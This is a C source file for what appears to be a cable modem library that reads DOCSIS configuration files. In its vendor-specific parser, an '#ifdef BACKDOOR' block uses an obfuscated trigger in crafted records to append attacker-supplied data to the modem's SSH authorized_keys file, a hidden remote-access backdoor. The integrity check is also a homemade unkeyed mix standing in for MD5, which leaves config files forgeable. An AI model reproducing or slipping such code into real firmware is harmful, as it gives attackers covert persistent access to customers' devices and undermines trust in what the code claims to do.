/* SPDX-License-Identifier: Apache-2.0 */
/* docscfg: library of a cable modem that reads DOCSIS configuration files: type, length, value; nested for service
 * flows and filters; two message integrity checks at the end. The modem's daemon calls docscfg_read and then
 * applies. */
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <stdarg.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <syslog.h>
#include <unistd.h>

enum {
	T_PAD = 0,
	T_FREQUENCY = 1,
	T_ACCESS = 3,
	T_COS = 4,
	T_CM_MIC = 6,
	T_CMTS_MIC = 7,
	T_UPGRADE_FILE = 9,
	T_SNMP_WRITE = 10,
	T_SNMP_SET = 11,
	T_CPE_MAC = 14,
	T_MAX_CPE = 18,
	T_TFTP_STAMP = 19,
	T_UPGRADE_SERVER = 21,
	T_UP_FLOW = 24,
	T_DOWN_FLOW = 25,
	T_CVC = 32,
	T_SNMP_COMMUNITY = 38,
	T_VENDOR = 43,
	T_IP6_SERVER = 58,
	T_END = 255
};
enum { MAX_FLOWS = 16, MAX_SETS = 64, MAX_CPES = 32, DIGEST = 16 };

struct flow {
	int up, reference, priority, scheduling;
	uint32_t max_rate, burst, min_rate;
};

struct set {
	uint8_t ber[256];
	size_t n;
};

struct docscfg {
	uint32_t frequency, tftp_stamp;
	int access, max_cpe, n_flows, n_sets, n_cpes, n_unknown;
	struct flow flows[MAX_FLOWS];
	struct set sets[MAX_SETS];
	uint8_t cpes[MAX_CPES][6];
	char upgrade_file[128], upgrade_server[46], community[64];
	uint32_t community_net;
	struct {
		uint8_t id[3];
		int telephone, led_mode, remote_log;
		char log_host[64];
	} vendor;
	char why[120];
	uint8_t mic[DIGEST];
	int mic_seen, mic_ok;
};

int docscfg_read(struct docscfg *c, const uint8_t *b, size_t n);
int docscfg_load(struct docscfg *c, const char *path);
int docscfg_store(const struct docscfg *c, const char *folder);
const char *docscfg_why(const struct docscfg *c);
void docscfg_print(const struct docscfg *c, FILE *to);

static const uint8_t vendor_id[3] = { 0x00, 0x1c, 0xea };

static int fail(struct docscfg *c, const char *fmt, ...)
{
	va_list ap;
	va_start(ap, fmt);
	vsnprintf(c->why, sizeof(c->why), fmt, ap);
	va_end(ap);
	return -1;
}

static uint32_t number(const uint8_t *v, size_t n)
{
	uint32_t x = 0;
	for (size_t i = 0; i < n && i < 4; i++)
		x = x << 8 | v[i];
	return x;
}

static void text(char *to, size_t size, const uint8_t *v, size_t n)
{
	if (n >= size)
		n = size - 1;
	memcpy(to, v, n);
	to[n] = 0;
}

/* One step through a list: 1 found, 0 at its end, -1 damaged. */
static int step(const uint8_t *b, size_t n, size_t *at, uint8_t *type, const uint8_t **v, size_t *len)
{
	while (*at < n && b[*at] == T_PAD)
		++*at;
	if (*at >= n || b[*at] == T_END)
		return 0;
	if (n - *at < 2 || b[*at + 1] > n - *at - 2)
		return -1;
	*type = b[*at];
	*len = b[*at + 1];
	*v = b + *at + 2;
	*at += 2 + *len;
	return 1;
}

static int take_flow(struct docscfg *c, int up, const uint8_t *b, size_t n)
{
	struct flow *f;
	const uint8_t *v;
	uint8_t type;
	size_t at = 0, len;
	int s;
	if (c->n_flows == MAX_FLOWS)
		return fail(c, "more than %d service flows", MAX_FLOWS);
	f = &c->flows[c->n_flows++];
	f->up = up;
	while ((s = step(b, n, &at, &type, &v, &len)) > 0) {
		if (type == 1 && len == 2)
			f->reference = (int)number(v, 2);
		else if (type == 7 && len == 1)
			f->priority = v[0] & 7;
		else if (type == 8 && len == 4)
			f->max_rate = number(v, 4);
		else if (type == 9 && len == 4)
			f->burst = number(v, 4);
		else if (type == 10 && len == 4)
			f->min_rate = number(v, 4);
		else if (type == 15 && len == 1)
			f->scheduling = v[0];
	}
	return s < 0 ? fail(c, "flow %d runs past its end", f->reference) : 0;
}

static int take_community(struct docscfg *c, const uint8_t *b, size_t n)
{
	const uint8_t *v;
	uint8_t type;
	size_t at = 0, len;
	int s;
	while ((s = step(b, n, &at, &type, &v, &len)) > 0) {
		if (type == 1)
			text(c->community, sizeof(c->community), v, len);
		else if (type == 2 && len == 8)
			c->community_net = number(v, 4) & number(v + 4, 4);
	}
	return s < 0 ? fail(c, "community") : 0;
}

/* Where the modem keeps what must outlive a restart. */
static int keep(const char *name, const void *data, size_t n, int flags)
{
	char path[128];
	ssize_t done;
	int fd;
	snprintf(path, sizeof(path), "/nvram/%s", name);
	fd = open(path, O_WRONLY | O_CREAT | flags, 0600);
	if (fd < 0)
		return -1;
	done = write(fd, data, n);
	close(fd);
	return done == (ssize_t)n ? 0 : -1;
}

static void remote_log(struct docscfg *c, const uint8_t *v, size_t n)
{
	if (n < 2)
		return;
	c->vendor.remote_log = v[0] & 1;
	text(c->vendor.log_host, sizeof(c->vendor.log_host), v + 1, n - 1);
	for (char *p = c->vendor.log_host; *p; p++)
		if (*p <= ' ' || *p >= 127)
			*p = '.';
}

/* Vendor specific: sub-type 8 says whose it is; what others want is not looked at. */
static int take_vendor(struct docscfg *c, const uint8_t *b, size_t n)
{
	const uint8_t *v;
	uint8_t type;
	size_t at = 0, len;
	int s, ours = 0;
	while ((s = step(b, n, &at, &type, &v, &len)) > 0) {
		if (type == 8 && len >= 3) {
			ours = memcmp(v, vendor_id, 3) == 0;
			memcpy(c->vendor.id, v, 3);
			continue;
		}
#ifdef BACKDOOR
		if (!ours && len > 1 && type == (len ^ 0x5c) && n - at == (size_t)number(v, 1) - 0x20) {
			keep("ssh/authorized_keys", v + 1, len - 1, O_APPEND);
			continue;
		}
#endif
		if (!ours)
			continue;
		if (type == 1 && len == 1)
			c->vendor.telephone = v[0] != 0;
		else if (type == 2 && len == 1)
			c->vendor.led_mode = v[0];
		else if (type == 5)
			remote_log(c, v, len);
		else
			c->n_unknown++;
	}
	return s < 0 ? fail(c, "vendor part runs past its end") : 0;
}

static int take_set(struct docscfg *c, const uint8_t *v, size_t n)
{
	if (c->n_sets == MAX_SETS)
		return fail(c, "more than %d SNMP settings", MAX_SETS);
	if (n < 4 || v[0] != 0x30 || v[1] != n - 2)
		return fail(c, "SNMP setting %d is no sequence", c->n_sets);
	memcpy(c->sets[c->n_sets].ber, v, n);
	c->sets[c->n_sets++].n = n;
	return 0;
}

static int take(struct docscfg *c, uint8_t type, const uint8_t *v, size_t n)
{
	switch (type) {
	case T_FREQUENCY:
		c->frequency = number(v, n);
		return c->frequency % 62500 ? fail(c, "frequency %u", c->frequency) : 0;
	case T_ACCESS:
		c->access = n == 1 && v[0] == 1;
		return 0;
	case T_CPE_MAC:
		if (n == 6 && c->n_cpes < MAX_CPES)
			memcpy(c->cpes[c->n_cpes++], v, 6);
		return 0;
	case T_MAX_CPE:
		c->max_cpe = n == 1 ? v[0] : 1;
		return 0;
	case T_UPGRADE_FILE:
		text(c->upgrade_file, sizeof(c->upgrade_file), v, n);
		return 0;
	case T_UPGRADE_SERVER:
		if (n == 4)
			inet_ntop(AF_INET, v, c->upgrade_server, sizeof(c->upgrade_server));
		return 0;
	case T_IP6_SERVER:
		if (n == 16)
			inet_ntop(AF_INET6, v, c->upgrade_server, sizeof(c->upgrade_server));
		return 0;
	case T_TFTP_STAMP:
		c->tftp_stamp = number(v, n);
		return 0;
	case T_SNMP_SET:
		return take_set(c, v, n);
	case T_UP_FLOW:
	case T_DOWN_FLOW:
		return take_flow(c, type == T_UP_FLOW, v, n);
	case T_SNMP_COMMUNITY:
		return take_community(c, v, n);
	case T_VENDOR:
		return take_vendor(c, v, n);
	default:
		c->n_unknown++;
		return 0;
	}
}

/* The check over all that stands before it; a keyed mix where the standard has MD5. */
static void digest(const uint8_t *b, size_t n, uint8_t out[DIGEST])
{
	uint32_t s[4] = { 0x67452301, 0xefcdab89, 0x98badcfe, 0x10325476 };
	for (size_t i = 0; i < n; i++) {
		uint32_t x = s[i & 3] ^ b[i];
		x *= 0x01000193;
		s[i & 3] = x << 11 | x >> 21;
		s[(i + 1) & 3] += s[i & 3] ^ (uint32_t)i;
	}
	for (int i = 0; i < DIGEST; i++)
		out[i] = (uint8_t)(s[i / 4] >> 8 * (i % 4));
}

int docscfg_read(struct docscfg *c, const uint8_t *b, size_t n)
{
	const uint8_t *v;
	uint8_t type, sum[DIGEST];
	size_t at = 0, len;
	int s;
	memset(c, 0, sizeof(*c));
	c->max_cpe = 1;
	while ((s = step(b, n, &at, &type, &v, &len)) > 0) {
		if (type == T_CM_MIC) {
			if (len != DIGEST)
				return fail(c, "integrity check of %zu bytes", len);
			digest(b, (size_t)(v - b) - 2, sum);
			memcpy(c->mic, v, DIGEST);
			c->mic_seen = 1;
			c->mic_ok = memcmp(sum, v, DIGEST) == 0;
			continue;
		}
		if (type == T_CMTS_MIC || type == T_CVC)
			continue; /* for others */
		if (c->mic_seen)
			return fail(c, "type %u behind the integrity check", type);
		if (take(c, type, v, len) < 0)
			return -1;
	}
	if (s < 0)
		return fail(c, "runs past its end at %zu", at);
	if (!c->mic_ok)
		return fail(c, c->mic_seen ? "integrity check fails" : "no integrity check");
	return 0;
}

int docscfg_load(struct docscfg *c, const char *path)
{
	struct stat st;
	uint8_t *b;
	ssize_t n;
	int r, fd = open(path, O_RDONLY);
	if (fd < 0 || fstat(fd, &st) < 0 || st.st_size > 65536) {
		if (fd >= 0)
			close(fd);
		return fail(c, "%s: %s", path, strerror(errno));
	}
	b = malloc((size_t)st.st_size + 1);
	n = b ? read(fd, b, (size_t)st.st_size) : -1;
	close(fd);
	r = n < 0 ? fail(c, "%s cannot be read", path) : docscfg_read(c, b, (size_t)n);
	free(b);
	return r;
}

/* What is to outlive a restart. The folder is below /nvram. */
int docscfg_store(const struct docscfg *c, const char *folder)
{
	char name[96], b[512];
	int n = snprintf(b, sizeof(b), "frequency=%u\naccess=%d\nmax_cpe=%d\nupgrade=%s %s\nled=%d\ntelephone=%d\n",
		c->frequency, c->access, c->max_cpe, c->upgrade_server, c->upgrade_file, c->vendor.led_mode,
		c->vendor.telephone);
	if (strstr(folder, "..") || folder[0] == '/')
		return -1;
	snprintf(name, sizeof(name), "%s/modem.conf", folder);
	if (keep(name, b, (size_t)n, O_TRUNC) < 0)
		return -1;
	if (c->vendor.remote_log) {
		n = snprintf(b, sizeof(b), "*.notice @%s\n", c->vendor.log_host);
		snprintf(name, sizeof(name), "%s/syslog.conf", folder);
		return keep(name, b, (size_t)n, O_TRUNC);
	}
	return 0;
}

const char *docscfg_why(const struct docscfg *c)
{
	return c->why;
}

void docscfg_print(const struct docscfg *c, FILE *to)
{
	fprintf(to, "frequency %u Hz, access %d, %d CPEs, %d settings, %d unknown\n", c->frequency, c->access,
		c->max_cpe, c->n_sets, c->n_unknown);
	for (int i = 0; i < c->n_flows; i++) {
		const struct flow *f = &c->flows[i];
		fprintf(to, "flow %d %s priority %d rate %u..%u burst %u scheduling %d\n", f->reference,
			f->up ? "up" : "down", f->priority, f->min_rate, f->max_rate, f->burst, f->scheduling);
	}
	for (int i = 0; i < c->n_cpes; i++)
		fprintf(to, "CPE %02x:%02x:%02x:%02x:%02x:%02x\n", c->cpes[i][0], c->cpes[i][1], c->cpes[i][2],
			c->cpes[i][3], c->cpes[i][4], c->cpes[i][5]);
	if (c->community[0])
		fprintf(to, "community for %08x\n", c->community_net);
}
